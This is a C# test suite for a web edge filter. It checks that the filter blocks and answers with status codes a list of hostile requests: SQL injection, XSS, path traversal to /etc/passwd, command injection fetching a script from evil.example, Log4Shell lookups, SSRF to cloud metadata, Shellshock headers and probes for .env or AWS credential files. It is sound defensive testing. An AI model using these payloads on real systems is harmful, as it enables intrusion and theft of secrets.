using System.Net;
using System.Net.Http.Json;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using ObsidianVault.Functional.Service;

namespace ObsidianVault.Functional.Edge;

/// <summary>
/// The edge in front of the real service: what must never get in, and what must never be stopped. docs/edge.md says what it does.
/// </summary>
public sealed class EdgeTests(EdgeServer edge) : IClassFixture<EdgeServer>
{
    /// <summary>Address, header, its value, and how the edge answers.</summary>
    public static TheoryData<string, string, string, int> Attacks => new()
    {
        { "/api/v1/jobs?x=1%27%20or%20%271%27=%271", "", "", 403 },
        { "/api/v1/jobs?id=1%20UNION%20SELECT%20password%20FROM%20users--", "", "", 403 },
        { "/api/v1/jobs?id=1;select%20pg_sleep(10)--", "", "", 403 },
        { "/?a=%3Cscript%3Ealert(1)%3C/script%3E", "", "", 403 },
        { "/?a=%3Cimg%20src=x%20onerror=alert(1)%3E", "", "", 403 },
        { "/?file=../../../../etc/passwd", "", "", 403 },
        { "/?file=..%252f..%252f..%252fetc/passwd", "", "", 403 },
        { "/assets/..%2f..%2f..%2fetc/passwd", "", "", 400 },
        { "/?cmd=;cat%20/etc/passwd", "", "", 403 },
        { "/?x=%24(wget%20http://evil.example/a.sh)", "", "", 403 },
        { "/?x=%24%7Bjndi:ldap://evil.example/a%7D", "", "", 403 },
        { "/?page=http://169.254.169.254/latest/meta-data/", "", "", 403 },
        { "/?x=%3C?php%20system($_GET%5B0%5D);", "", "", 403 },
        { "/?x=a%0d%0aSet-Cookie:%20b=c", "", "", 403 },
        { "/?x=java.lang.Runtime.getRuntime", "", "", 403 },
        { "/", "User-Agent", "sqlmap/1.7#stable", 403 },
        { "/", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6)", 403 },
        { "/", "User-Agent", "() { :; }; /bin/cat /etc/passwd", 403 },
        { "/", "User-Agent", "${jndi:ldap://evil.example/a}", 403 },
        { "/", "User-Agent", "GPTBot/1.2", 403 },
        { "/", "Referer", "<script>alert(1)</script>", 403 },
        { "/", "Cookie", "a=1' UNION SELECT password FROM users--", 403 },
        { "/.env", "", "", 404 },
        { "/.git/config", "", "", 404 },
        { "/api/v1/.aws/credentials", "", "", 404 },
        { "/wp-login.php", "", "", 404 },
        { "/phpmyadmin/index.php", "", "", 404 },
        { "/backup.sql", "", "", 404 },
        { "/cgi-bin/test-cgi", "", "", 404 },
        { "/metrics", "", "", 404 },
        { "/.edge/judge", "", "", 404 },
    };

    [Theory, MemberData(nameof(Attacks))]
    public async Task An_attack_is_stopped(string address, string header, string value, int status)
    {
        EdgeServer.Needed();
        using var http = edge.NewClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri(edge.Address + address.TrimStart('/'), UriKind.Absolute));
        if (header.Length > 0) request.Headers.TryAddWithoutValidation(header, value).ShouldBeTrue();
        using var answer = await http.SendAsync(request, TestContext.Current.CancellationToken);
        ((int)answer.StatusCode).ShouldBe(status);
        // The service never saw it.
        answer.Headers.Contains("X-Request-Id").ShouldBeFalse();
    }

    /// <summary>An attack by address is one with any method, and with a body that is fine.</summary>
    [Theory, InlineData("POST"), InlineData("PUT"), InlineData("DELETE"), InlineData("PATCH")]
    public async Task An_attack_is_stopped_with_every_method(string method)
    {
        EdgeServer.Needed();
        using var http = edge.NewClient(HttpVersion.Version20);
        using var request = new HttpRequestMessage(new HttpMethod(method), "/api/v1/rag/documents?x=1%27%20or%20%271%27=%271")
        {
            Content = JsonContent.Create(new { prompt = "x" }),
        };
        using var answer = await http.SendAsync(request, TestContext.Current.CancellationToken);
        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        var problem = await answer.Content.ReadFromJsonAsync<JsonElement>(TestContext.Current.CancellationToken);
        problem.GetProperty("code").GetString().ShouldBe("refused_at_the_edge");
    }

    [Fact]
    public async Task No_honest_prompt_is_stopped_and_no_log_tells_what_it_said()
    {
        EdgeServer.Needed();
        using var http = await SignedInAsync();
        List<string> prompts = [.. File.ReadLines(Path.Combine(AppContext.BaseDirectory, "Edge", "honest.txt"))];
        foreach (var folder in new[] { "Good", "Broken", "Idioms" })
        {
            prompts.AddRange(Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "Scenes", folder))
                .Order(StringComparer.Ordinal).Take(8).Select(File.ReadAllText));
        }

        prompts.Add(await File.ReadAllTextAsync(
            Path.Combine(AppContext.BaseDirectory, "Rendering", "Attacks", "attacks.json"), TestContext.Current.CancellationToken));

        List<string> stopped = [];
        foreach (var prompt in prompts)
        {
            using var answer = await http.PostAsJsonAsync(
                "/v1/chat/completions",
                new { model = "auto", messages = new[] { new { role = "user", content = "marker-of-a-prompt " + prompt } } },
                TestContext.Current.CancellationToken);
            if (!answer.Headers.Contains("X-Request-Id")) stopped.Add($"{answer.StatusCode}: {prompt}");
        }

        stopped.ShouldBeEmpty();
        prompts.Count.ShouldBeGreaterThan(60);
        // Bodies are scored for the log, which tells the score and nothing that somebody wrote.
        await VaultService.UntilAsync(() => Task.FromResult(Said("A body has a score of")), "a body is scored");
        Said("marker-of-a-prompt").ShouldBeFalse();
    }

    /// <summary>Recorded payloads of both channels get in as they are: the signature covers every byte.</summary>
    [Fact]
    public async Task Webhooks_pass_untouched()
    {
        EdgeServer.Needed();
        using var http = edge.NewClient();
        (await edge.Vault.TelegramAsync(1, "' OR 1=1 -- <script>alert(1)</script> ../../etc/passwd", through: http))
            .ShouldBe(HttpStatusCode.OK);
        (await edge.Vault.WhatsAppAsync(http, "4915112345678", ("wamid.edge", "$(cat /etc/passwd); DROP TABLE x; --")))
            .ShouldBe(HttpStatusCode.OK);
        // White space and escapes are signed too.
        var odd = Encoding.UTF8.GetBytes("{ \"object\" :\t\"whatsapp_business_account\",\r\n \"entry\":[ ] , \"x\":\"\\u0627<script>\" }");
        (await edge.Vault.WhatsAppBodyAsync(odd, through: http)).ShouldBe(HttpStatusCode.OK);
        using var challenge = await http.GetAsync(
            "/webhook/whatsapp?hub.mode=subscribe&hub.challenge=1158201444&hub.verify_token=functional-verify-token",
            TestContext.Current.CancellationToken);
        (await challenge.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).ShouldBe("1158201444");
    }

    [Fact]
    public async Task A_file_of_many_parts_is_passed_on()
    {
        EdgeServer.Needed();
        using var http = await SignedInAsync();
        using var form = new MultipartFormDataContent();
        foreach (var (name, text) in new[]
        {
            ("a b (1) ' notes.md", "# SQL\n\n' OR 1=1; <script>alert(1)</script> ../../etc/passwd\n"),
            ("الرياضيات 🎬.md", "# الرياضيات\n\n$(id) `id`\n"),
        }) form.Add(new ByteArrayContent(Encoding.UTF8.GetBytes(text)), "file", name);
        using var answer = await http.PostAsync("/api/v1/rag/documents", form, TestContext.Current.CancellationToken);
        ((int)answer.StatusCode).ShouldBeInRange(
            200, 299, await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
    }

    [Theory, InlineData("1.1"), InlineData("2.0")]
    public async Task Events_arrive_while_the_answer_goes_on(string version)
    {
        EdgeServer.Needed();
        using var http = await SignedInAsync(Version.Parse(version));
        using var created = await http.PostAsJsonAsync(
            "/api/v1/jobs", new { prompt = "Explain the area of a circle" }, TestContext.Current.CancellationToken);
        var accepted = await created.Content.ReadFromJsonAsync<JsonElement>(TestContext.Current.CancellationToken);
        var job = accepted.GetProperty("job_id").GetString();
        using var events = await http.GetAsync(
            $"/api/v1/jobs/{job}/events", HttpCompletionOption.ResponseHeadersRead, TestContext.Current.CancellationToken);
        events.Content.Headers.ContentType!.MediaType.ShouldBe("text/event-stream");
        using var reader = new StreamReader(await events.Content.ReadAsStreamAsync(TestContext.Current.CancellationToken));
        // The stream stays open until the job ends, which it has not: the line got through before.
        (await reader.ReadLineAsync(TestContext.Current.CancellationToken)).ShouldNotBeNullOrEmpty();
        using var cancelled = await http.DeleteAsync($"/api/v1/jobs/{job}", TestContext.Current.CancellationToken);
    }

    [Fact]
    public async Task What_a_client_says_about_proxies_is_not_believed()
    {
        EdgeServer.Needed();
        using var http = edge.NewClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/operator/lines");
        foreach (var name in new[] { "X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Original-URL", "X-HTTP-Method-Override" })
            request.Headers.TryAddWithoutValidation(name, "10.1.2.3");
        using var answer = await http.SendAsync(request, TestContext.Current.CancellationToken);
        ((int)answer.StatusCode).ShouldBeOneOf(401, 403, 404);
        // The service knows that people came by https.
        answer.Headers.GetValues("Strict-Transport-Security").ShouldHaveSingleItem();
        using var plain = new HttpClient(new SocketsHttpHandler { AllowAutoRedirect = false });
        using var moved = await plain.GetAsync(new Uri(edge.PlainAddress, "/chat?a=b"), TestContext.Current.CancellationToken);
        moved.StatusCode.ShouldBe(HttpStatusCode.PermanentRedirect);
        moved.Headers.Location!.ToString().ShouldEndWith("/chat?a=b");
    }

    [Fact]
    public async Task Nothing_private_is_kept()
    {
        EdgeServer.Needed();
        using var http = await SignedInAsync();
        string[] addresses = ["/api/v1/usage", "/v1/models", "/", "/api/v1/status"];
        foreach (var address in addresses.Concat(addresses))
        {
            using var answer = await http.GetAsync(address, TestContext.Current.CancellationToken);
        }

        await VaultService.UntilAsync(() => Task.FromResult(addresses.All(Logged)), "the requests are logged");
        Said("\"cache\":\"HIT\"").ShouldBeFalse();
    }

    /// <summary>200 clients that begin a request and say no more lose their connections, and nobody else notices.</summary>
    [Fact]
    public async Task Slow_clients_lose_their_connections_and_others_are_served()
    {
        EdgeServer.Needed();
        List<TcpClient> slow = [];
        try
        {
            List<Task<int>> ends = [];
            for (var i = 0; i < 200; i++)
            {
                var client = new TcpClient();
                slow.Add(client);
                await client.ConnectAsync(IPAddress.Loopback, edge.Port, TestContext.Current.CancellationToken);
                ends.Add(EndAsync(client));
            }

            using var http = edge.NewClient();
            using var answer = await http.GetAsync("/health/live", TestContext.Current.CancellationToken);
            answer.StatusCode.ShouldBe(HttpStatusCode.OK);
            await Task.WhenAll(ends).WaitAsync(TimeSpan.FromSeconds(60), TestContext.Current.CancellationToken);
        }
        finally
        {
            slow.ForEach(client => client.Dispose());
        }
    }

    private async Task<int> EndAsync(TcpClient client)
    {
        try
        {
            await using var tls = new SslStream(client.GetStream(), leaveInnerStreamOpen: false, (_, shown, _, _) => edge.IsOurs(shown));
            await tls.AuthenticateAsClientAsync("localhost");
            await tls.WriteAsync("POST /webhook/telegram HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100"u8.ToArray());
            return await tls.ReadAsync(new byte[100]);
        }
        catch (IOException)
        {
            return 0;
        }
    }

    private bool Logged(string address) => Said($"\"path\":\"{address}\"");

    private bool Said(string text) => edge.Lines.Any(line => line.Contains(text, StringComparison.Ordinal));

    private async Task<HttpClient> SignedInAsync(Version? version = null)
    {
        var http = edge.NewClient(version);
        using var opened = await http.PostAsync("/api/v1/sessions", null, TestContext.Current.CancellationToken);
        var session = await opened.Content.ReadFromJsonAsync<JsonElement>(TestContext.Current.CancellationToken);
        http.DefaultRequestHeaders.Authorization = new("Bearer", session.GetProperty("token").GetString());
        return http;
    }
}
